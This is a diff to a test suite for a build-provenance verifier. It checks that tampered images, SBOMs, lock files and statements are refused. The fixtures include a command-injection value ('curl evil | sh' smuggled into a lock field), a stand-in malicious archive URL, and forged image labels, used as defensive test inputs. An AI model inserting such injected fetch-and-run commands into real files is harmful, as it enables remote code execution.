@@ -3,7 +3,7 @@ import { appendFile, cp, mkdir, readdir, readFile, rm, symlink, writeFile } from
 import { join } from 'node:path';
 import { gunzipSync, gzipSync } from 'node:zlib';
 import { beforeAll, describe, expect, onTestFinished, test } from 'vitest';
-import { digestOf, sha256 } from '../../../src/hash.js';
+import { sha256 } from '../../../src/hash.js';
 import { lockFile, parseLock } from '../../../src/proof/lock.js';
 import { parseStatement, statementFile } from '../../../src/proof/statement.js';
 import {
@@ -20,6 +20,7 @@ import {
   runCli,
   temporaryFolder,
 } from '../harness.js';
+import { exportOfDockerfile, publishRelabelled } from './forging.js';
 import { copyOf, CRATE, flipByte, publishSample, type Sample, workspaceWithCrate } from './tiny.js';
 
 /** docs/proof.md lists these fifteen, by number and name; each is caught by the check that its test names. */
@@ -137,12 +138,16 @@ describe('on the wire', () => {
   });
 
   test('11 a label of the published image: the build key binds image and lock', async () => {
-    const name = await publishRelabelled();
-    await expectRefusal(
-      ['reproduce', name, '--evidence', join(sample.folder, 'evidence')],
-      /the lock is not this image's/,
-    );
+    const name = await publishRelabelled(sample, 'io.github.phantun-runtime.build-key', 'f'.repeat(64));
+    const genuine = ['--evidence', join(sample.folder, 'evidence')];
+    await expectRefusal(['reproduce', name, ...genuine], /the lock is not this image's/);
     await expectRefusal(['reproduce', name], /has no evidence beside it/);
+    // With the right build key the genuine lock is built again, and that has another label.
+    const revised = await publishRelabelled(sample, 'org.opencontainers.image.revision', 'e'.repeat(40));
+    await expectRefusal(
+      ['reproduce', revised, ...genuine],
+      /Labels\.org\.opencontainers\.image\.revision: published "e{40}".*error: equivalent: index: published/s,
+    );
   });
 });
 
@@ -224,8 +229,18 @@ describe('on disk', () => {
       [
         'sbom-linux-amd64.cdx.json',
         (text) => text.replace('cargo/cfg-if', 'cargo/evil'),
-        /purl of cfg-if@1\.0\.0 in the SBOM/,
+        /the SBOM of linux\/amd64 is not what a build writes: components\[\d\]\.purl: found "pkg:cargo\/evil@1\.0\.0"/,
       ],
+      [
+        'sbom-linux-amd64.cdx.json',
+        (text) =>
+          text.replace(
+            '"components"',
+            '"vulnerabilities": [{ "id": "CVE-1", "analysis": { "state": "not_affected" } }],\n "components"',
+          ),
+        /the SBOM of linux\/amd64 is not what a build writes: vulnerabilities: found \[/,
+      ],
+      ['statement.json', (text) => `${text}\n`, /the evidence's statement\.json is not what was verified/],
     ];
     for (const [name, change, sentence] of spoilt) {
       const folder = await copyOf(sample);
@@ -234,8 +249,17 @@ describe('on disk', () => {
       await expectRefusal(publish(folder), sentence);
     }
 
+    const recipe = await exportOfDockerfile(sample, 'FROM evil\n');
+    await expectRefusal(publish(recipe), /the lock was made by release 1\.0\.0 .*Use that release for it \(input\)/);
+
     const folder = await copyOf(sample);
-    const lock = parseLock(await readFile(join(folder, 'lock.json'), 'utf8'));
+    const lockText = await readFile(join(folder, 'lock.json'), 'utf8');
+    const worded = lockText.replace('"wrapper":"1.0.0"', '"wrapper":"1.0.0\\ncurl evil | sh"');
+    expect(worded).not.toBe(lockText);
+    for (const place of ['.', 'evidence']) await writeFile(join(folder, place, 'lock.json'), worded);
+    await expectRefusal(publish(folder), /the lock's inputs\.recipe is missing or malformed/);
+
+    const lock = parseLock(lockText);
     const other = lockFile({ ...lock, facts: { ...lock.facts, archiveUrl: 'https://evil.example/x.tar.gz' } });
     const file = join(folder, 'evidence', 'statement.json');
     const statement = parseStatement(await readFile(file));
@@ -262,36 +286,3 @@ describe('on disk', () => {
     for (const name of ['added.js', 'index.js', 'package.json']) expect(changed.stderr).toContain(name);
   });
 });
-
-/** Publishes the sample's image with another value of one of our labels, every digest made to fit. */
-async function publishRelabelled(): Promise<string> {
-  const folder = join(await copyOf(sample), 'oci');
-  const blob = (digest: string) => join(folder, 'blobs', 'sha256', digest.slice('sha256:'.length));
-  type Json = Record<string, unknown> & { digest: string; size: number };
-  const read = async (digest: string) => JSON.parse(await readFile(blob(digest), 'utf8')) as Record<string, unknown>;
-  const write = async (value: unknown) => {
-    const text = JSON.stringify(value);
-    await writeFile(blob(digestOf(text)), text);
-    return { digest: digestOf(text), size: text.length };
-  };
-  const forge = (text: string) =>
-    JSON.parse(text.replace(sample.run.outputs['build-key'] ?? '', 'f'.repeat(64))) as unknown;
-  const index = (await read(sample.run.outputs.digest ?? '')) as { manifests: Json[] };
-  for (const child of index.manifests) {
-    const manifest = (await read(child.digest)) as { config: Json };
-    Object.assign(manifest.config, await write(forge(JSON.stringify(await read(manifest.config.digest)))));
-    Object.assign(child, await write(manifest));
-  }
-  const top = await write(forge(JSON.stringify(index)));
-  const entry = { mediaType: 'application/vnd.oci.image.index.v1+json', ...top };
-  await writeFile(join(folder, 'index.json'), JSON.stringify({ schemaVersion: 2, manifests: [entry] }));
-  const name = `${freshImage()}@${top.digest}`;
-  const copied = await execute(
-    'skopeo',
-    ['copy', '--all', '--preserve-digests', '--dest-tls-verify=false', 'oci:.', `docker://${name}`],
-    {},
-    folder,
-  );
-  expect(copied, copied.stderr).toMatchObject({ code: 0 });
-  return name;
-}
